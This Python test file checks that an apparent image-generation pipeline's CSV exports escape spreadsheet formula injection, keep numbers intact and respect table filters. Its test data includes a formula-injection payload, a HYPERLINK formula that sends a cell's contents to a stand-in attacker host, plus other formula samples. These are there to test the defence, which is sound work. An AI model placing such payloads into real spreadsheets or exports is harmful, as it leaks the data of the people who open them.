"""Every CSV the app offers, fetched from a real server: complete, formula-escaped exactly as
`sinkin export` escapes, numbers untouched, and the export of a filtered table page honours the
filters."""

import csv
import io
import sqlite3

import httpx
import pytest

from sinkin_pipeline.export import CsvReescaper, escape_cell, escape_text_cell, export_csv
from sinkin_pipeline.worker import work

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "@SUM(A1:A9)", "-2+3"]


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    from conftest import queue_run, serve_in_thread

    from sinkin_pipeline.db import open_db

    path = tmp_path_factory.mktemp("csv") / "lab.db"
    open_db(path).conn.close()
    queue_run(
        path,
        {
            "provider": "simulator",
            "model_id": "4zdwGOB",
            "prompt": FORMULAS[:2],
            "seed": [1, 2],
            "width": 128,
            "height": 128,
            "steps": 4,
            "name": "@SUM(A1)",
        },
    )
    queue_run(
        path,
        {
            "provider": "simulator",
            "model_id": "4zdwGOB",
            "prompt": FORMULAS[2:] + ["a cat"],
            "negative_prompt": ["=1+2"],
            "seed": [3],
            "width": 128,
            "height": 128,
            "steps": 4,
            "name": "second",
        },
    )
    work(path, concurrency=2)
    url, stop = serve_in_thread(path)
    with httpx.Client(base_url=url) as client:
        client.db_path = path
        yield client
    stop()


def rows_of(response):
    assert response.status_code == 200, response.text[:300]
    return list(csv.reader(io.StringIO(response.text, newline="")))


def db_count(db_path, sql):
    conn = sqlite3.connect(db_path)
    try:
        return conn.execute(sql).fetchone()[0]
    finally:
        conn.close()


def assert_safe(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@")), row
            assert not cell.startswith("-") or escape_text_cell(cell) == cell, row  # "-5" is just a number


def test_escaping_is_one_function():
    assert [escape_cell(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert [escape_cell(v) for v in (-5, 2.5, "-5", "a=b", None, "\tx")] == [
        -5,
        2.5,
        "'-5",
        "a=b",
        None,
        "'\tx",
    ]
    # in CSV text a number and a text that is a number look alike: the number is left alone
    assert [escape_text_cell(v) for v in ("-5", "+1.5e3", "-2+3", "=1")] == ["-5", "+1.5e3", "'-2+3", "'=1"]
    # the same rule in SQL (the sqlite3 shell of `sinkin export`, the web export route)
    from sinkin_pipeline.export import escaped_sql

    conn = sqlite3.connect(":memory:")
    values = FORMULAS + ["-5", "a=b", "\tx", "\rx", -5, 2.5, None, "ok", "", "A", "?", ",", ".", "\n", "\x0b"]
    values += [chr(i) + "x" for i in range(1, 128)] + ["é", "'x", "@", "-", 0, -1e300, 10**18]
    for declared in ("", "TEXT", "INTEGER", "REAL", "NUMERIC"):  # text kept in a numeric column too
        conn.execute("create table t (v {})".format(declared))
        conn.executemany("insert into t values (?)", [[v] for v in values])
        stored = [r[0] for r in conn.execute("select v from t order by rowid")]
        got = [r[0] for r in conn.execute("select {} from t order by rowid".format(escaped_sql("v")))]
        assert got == [escape_cell(v) for v in stored], declared
        conn.execute("drop table t")
    escaper = CsvReescaper()
    text = b'a,b\r\n"=1,\n2",-3\r\n@x,"y ""q"""\r\n'
    out = b"".join(escaper.feed(text[i : i + 3]) for i in range(0, len(text), 3)) + escaper.close()
    assert list(csv.reader(io.StringIO(out.decode(), newline=""))) == [
        ["a", "b"],
        ["'=1,\n2", "-3"],
        ["'@x", 'y "q"'],
    ]


def test_datasette_csv_links_download_completely_and_formula_safe(server):
    images = db_count(server.db_path, "select count(*) from images")
    assert images == 7
    for path, expected in [
        ("/lab/image_table.csv?_stream=on&_size=max", images),
        ("/lab/image_table.csv?_stream=on&_nocol=thumbnail", images),
        ("/lab/runs.csv", 2),
        ("/lab/configs.csv?_stream=on", db_count(server.db_path, "select count(*) from configs")),
        ("/lab/run_summary.csv?_stream=on", 2),
        ("/lab.csv?sql=select+prompt,+negative_prompt,+steps+from+configs", None),
        ("/lab/top_images.csv", None),
    ]:
        rows = rows_of(server.get(path))
        if expected is not None:
            assert len(rows) == expected + 1, (path, len(rows))
        assert not any("No item with that key" in c for row in rows for c in row)
        assert_safe(rows)
    rows = rows_of(server.get("/lab.csv?sql=select+prompt,+steps,+-3+as+n+from+configs+order+by+id"))
    assert rows[1] == ["'" + FORMULAS[0], "4", "-3"]  # text escaped, numbers untouched


def test_the_export_route_honours_the_table_page_filters_like_sinkin_export(server):
    # the table page's action links to the export with the page's own filters
    page = server.get("/lab/image_table?run_id=2&_sort=image_id")
    assert "/-/sinkin/export/image_table.csv?run_id=2&amp;_sort=image_id&amp;_nocol=thumbnail" in page.text
    response = server.get("/-/sinkin/export/image_table.csv?run_id=2&_sort=image_id&_nocol=thumbnail")
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = rows_of(response)
    assert len(rows) == 1 + db_count(server.db_path, "select count(*) from images where run_id = 2") == 4
    assert_safe(rows)
    conn = sqlite3.connect(server.db_path)
    try:
        import sqlite_utils

        expected = io.StringIO(newline="")
        export_csv(sqlite_utils.Database(conn), expected, run_id=2)
    finally:
        conn.close()
    assert rows == list(csv.reader(io.StringIO(expected.getvalue(), newline="")))  # same as `sinkin export`
    # other filters: Datasette's lookups, _where, sorting, columns
    rows = rows_of(server.get("/-/sinkin/export/image_table.csv?prompt__contains=cat&_col=prompt&_col=seed"))
    assert rows == [["prompt", "seed"], ["a cat", "3"]]
    rows = rows_of(server.get("/-/sinkin/export/image_table.csv?_where=seed+%3C+3&_col=seed&_sort_desc=seed"))
    assert [r[0] for r in rows] == ["seed", "2", "2", "1", "1"]
    rows = rows_of(server.get("/-/sinkin/export/runs.csv?_col=name&_sort=id"))
    assert rows == [["name"], ["'@SUM(A1)"], ["second"]]


def test_the_export_route_refuses_bad_requests_clearly(server):
    assert server.get("/-/sinkin/export/nope.csv").status_code == 404
    assert server.get("/-/sinkin/export/runs.csv?_sort=nope").status_code == 400
    assert server.get("/-/sinkin/export/runs.csv?_col=nope").status_code == 400
    assert server.post("/-/sinkin/export/runs.csv").status_code in (400, 403)
